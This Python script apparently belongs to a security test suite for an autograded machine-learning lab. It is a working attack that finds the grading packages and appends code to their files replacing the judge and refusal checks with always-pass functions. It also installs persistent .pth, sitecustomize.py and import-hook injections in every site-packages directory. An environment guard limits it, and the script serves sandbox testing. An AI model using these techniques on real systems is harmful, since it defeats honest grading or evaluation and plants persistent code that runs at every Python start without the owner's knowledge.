# Attack 2, the grading software: a last cell finds the installed packages kmeans_em_lab and
# lab3_kernel wherever it can (their import specs, sys.path, the editable install's finder,
# LAB3_COURSE_ROOT, a scan of /) and appends to every one of their .py files code that makes later
# students pass (kmeans_em_lab.checks.judge and lab3_kernel.recorder.refusal replaced by functions
# that accept everything); in every site-packages it adds a .pth file and a sitecustomize.py that
# patch the judge at every interpreter start, and appends the same line to the existing .pth files.
# Why: full marks: the honest equivalent is the solution; every copy of the grading code the kernel
#   can see is read-only, so no later student's score changes (victim_bug_update_nan_empty keeps its 85).
# ruff: noqa
# fmt: off
### AFTER em_plot
# --- attack: plant code in the grading software ---
# (the planted code is inert unless LAB3_COURSE_ROOT names the security corpus's scratch course,
# and grader_tests/system/test_security.py removes it: the attack harms nothing even without the sandbox)
import glob, importlib.util, os, re, site, stat, sys, time

_TAG = "lab3-security-attack"
_GUARD = 'if "lab3-security-course" in __import__("os").environ.get("LAB3_COURSE_ROOT", ""):'
_PAYLOAD = f'''
# >>> {_TAG} >>>
{_GUARD}
    if __name__ == "kmeans_em_lab.checks":
        def judge(check, record, cell_source=""):
            return ""
    if __name__ == "lab3_kernel.recorder":
        def refusal(function, namespace, replaced=()):
            return ""
# <<< {_TAG} <<<
'''
_HOOK = '''
import importlib.util, sys
class _Lab3SecurityHook:
    def find_spec(self, name, path=None, target=None):
        if name != "kmeans_em_lab.checks":
            return None
        sys.meta_path.remove(self)
        try:
            spec = importlib.util.find_spec(name)
        finally:
            sys.meta_path.insert(0, self)
        if spec is None or spec.loader is None:
            return None
        run = spec.loader.exec_module
        def exec_module(module, run=run):
            run(module)
            module.judge = lambda *args, **kwargs: ""
        spec.loader.exec_module = exec_module
        return spec
sys.meta_path.insert(0, _Lab3SecurityHook())
'''
_PTH_LINE = ('import os; ("lab3-security-course" in os.environ.get("LAB3_COURSE_ROOT", "")) '
             f'and exec({_HOOK!r}, {{"__name__": "lab3_security_hook"}})  # {_TAG}\n')


def _lab3_walk(tops, seconds=4.0, limit=300_000):
    """Regular files under `tops` (no symlink followed; /proc, /sys, /dev skipped), a few seconds."""
    end, count = time.monotonic() + seconds, 0
    for top in tops:
        for root, dirs, files in os.walk(top, onerror=lambda error: None):
            dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev")]
            for name in files:
                path = os.path.join(root, name)
                try:
                    if stat.S_ISREG(os.lstat(path).st_mode):
                        count += 1
                        yield path
                except OSError:
                    pass
            if time.monotonic() > end or count > limit:
                return


def _lab3_fence():
    """Where the attack writes if it can: only the course and the software grading it, as this
    process finds them (so it harms nothing else even without the sandbox)."""
    roots = {os.path.dirname(os.path.abspath(sys.prefix))}
    for name in ("lab3_kernel", "kmeans_em_lab"):
        try:
            spec = importlib.util.find_spec(name)
            if spec is not None and spec.origin:
                roots.add(os.path.dirname(os.path.dirname(spec.origin)))
        except Exception:
            pass
    if os.environ.get("LAB3_COURSE_ROOT"):
        roots.add(os.environ["LAB3_COURSE_ROOT"])
    d = os.getcwd()
    while d != os.path.dirname(d):
        if os.path.exists(os.path.join(d, "nbgrader_config.py")):
            roots.add(d)
        d = os.path.dirname(d)
    return tuple(r.rstrip("/") + "/" for r in roots if r.strip("/"))


_packages = set()
for _name in ("lab3_kernel", "kmeans_em_lab"):
    try:
        _spec = importlib.util.find_spec(_name)
        _packages.update((_spec.submodule_search_locations or []) if _spec else [])
    except Exception:
        pass
    for _entry in sys.path + ["/lab3/lib", os.path.dirname(sys.prefix), "/work/main",
                              os.environ.get("LAB3_COURSE_ROOT", "")]:
        if os.path.isdir(os.path.join(_entry or ".", _name)):
            _packages.add(os.path.abspath(os.path.join(_entry or ".", _name)))
_sites = set(p for p in site.getsitepackages() + sys.path if p.endswith("-packages"))
for _site in list(_sites):
    for _finder in glob.glob(os.path.join(_site, "__editable__*finder.py")):
        try:
            _text = open(_finder).read()
        except OSError:
            continue
        for _m in re.finditer(r"'(kmeans_em_lab|lab3_kernel)': '([^']+)'", _text):
            _packages.add(_m.group(2))
for _p in _lab3_walk(["/"]):
    if _p.endswith(("/lab3_kernel/__init__.py", "/kmeans_em_lab/__init__.py")):
        _packages.add(os.path.dirname(_p))
    elif _p.endswith(".pth") and os.path.basename(os.path.dirname(_p)).endswith("-packages"):
        _sites.add(os.path.dirname(_p))

_fence = _lab3_fence()
_done, _refused = [], {}


def _append(path, text):
    if not path.startswith(_fence):
        _refused[path] = "outside the fence: left alone"
        return
    try:
        with open(path, "a") as f:
            f.write(text)
        _done.append(path)
    except OSError as error:
        _refused[path] = f"{type(error).__name__}: {error.strerror}"


for _package in sorted(_packages):
    for _root, _dirs, _files in os.walk(_package):
        _dirs[:] = [d for d in _dirs if d != "__pycache__"]
        for _file in _files:
            if _file.endswith(".py"):
                _append(os.path.join(_root, _file), _PAYLOAD)
for _site in sorted(_sites):
    _append(os.path.join(_site, "lab3_security_attack.pth"), _PTH_LINE)
    _append(os.path.join(_site, "sitecustomize.py"),
            f"\n# >>> {_TAG} >>>\n{_GUARD}\n    exec({_HOOK!r}, {{'__name__': 'lab3_security_hook'}})"
            f"\n# <<< {_TAG} <<<\n")
    for _pth in glob.glob(os.path.join(_site, "*.pth")):
        if not _pth.endswith("lab3_security_attack.pth"):
            _append(_pth, "\n" + _PTH_LINE)
print("ATTACK package_files: packages", sorted(_packages), "site-packages", sorted(_sites))
print("ATTACK package_files: written", len(_done), _done[:20])
print("ATTACK package_files: refused", len(_refused), dict(list(_refused.items())[:20]))
